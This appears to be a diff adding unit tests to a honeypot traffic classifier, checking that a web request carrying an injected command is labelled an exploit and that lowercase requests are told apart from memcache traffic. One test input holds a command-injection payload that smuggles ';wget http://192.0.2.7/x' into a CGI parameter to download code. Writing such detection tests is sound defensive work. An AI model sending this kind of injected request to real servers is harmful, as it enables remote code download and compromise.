@@ -91,3 +91,14 @@ def test_every_field_of_a_row_is_in_the_vocabulary(name: str) -> None:
         row = tell(sample.conversation)
         assert set(row) <= set(fields())
         assert row["honeypot.stream.summary"]
+
+
+def test_a_command_sent_to_a_web_server_is_an_attack_even_if_nobody_knows_its_target() -> None:
+    row = tell(said(b"GET /new.cgi?name=;wget%20http://192.0.2.7/x HTTP/1.1\r\n\r\n"))
+    assert (row.get("honeypot.tool.name"), row["honeypot.tool.step"]) == (None, "exploit: command in a request")
+    assert row["honeypot.command"] == [";wget http://192.0.2.7/x"]
+
+
+def test_a_broken_request_in_small_letters_is_no_question_to_memcached() -> None:
+    assert tell(said(b"get / http/1.1\r\n\r\n"))["network.protocol"] == "text"
+    assert tell(said(b"get key\r\n"))["network.protocol"] == "memcache"
